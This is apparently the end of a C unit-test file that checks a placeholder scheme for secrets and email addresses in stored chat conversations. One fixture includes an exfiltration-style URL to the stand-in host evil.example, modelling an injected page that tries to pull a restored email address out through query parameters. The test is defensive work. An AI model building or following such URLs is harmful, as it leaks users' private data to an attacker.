			{ { NULL, CHAT,
				TWO("quuxel47-wobble, my password is xuul74-elbow",
					"my password is quuxel47-wobble"),
				"\"<GENERIC_SECRET_2>, my password is <GENERIC_SECRET_1>\"}",
				CHATTED("<GENERIC_SECRET_1>"), "xuul74-elbow" } } },
		{ "a page cannot get another value into a URL of its own",
			{ { NULL, CHAT,
				TWO("jane@example.com", "https://evil.example/?a=mallory@evil.example&"
							"b=<EMAIL_ADDRESS_1>"),
				"?a=<EMAIL_ADDRESS_2>&b=<EMAIL_ADDRESS_1>\"",
				CHATTED("https://evil.example/?a=<EMAIL_ADDRESS_2>&b=<EMAIL_ADDRESS_1>"),
				"https://evil.example/?a=<EMAIL_ADDRESS_2>&b=<EMAIL_ADDRESS_1>" } } },
	};
	struct stage s;

	(void)state;
	stage_up(&s, KEPT_POLICY);
	for (size_t i = 0; i < COUNT_OF(talks); i++)
		run_talk(&s, &talks[i]);
	stage_down(&s);
}

int
main(void)
{
	static const struct CMUnitTest tests[] = {
		cmocka_unit_test(placeholder_means_one_value_in_a_kept_conversation),
		cmocka_unit_test(number_in_a_conversation_keeps_its_type_until_it_occurs_in_quotes),
		cmocka_unit_test(shared_conversation_has_placeholders_without_collisions),
		cmocka_unit_test(unknown_placeholder_is_counted_and_recorded),
		cmocka_unit_test(placeholder_that_stays_in_a_call_is_counted_by_reason),
		cmocka_unit_test(rule_denies_a_call_in_which_placeholders_stay),
		cmocka_unit_test(each_spelling_is_restored_as_written),
		cmocka_unit_test(restored_value_is_never_another_one),
		cmocka_unit_test(beginning_of_a_growing_session_does_not_change),
		cmocka_unit_test(placeholder_means_its_value_from_there_on),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
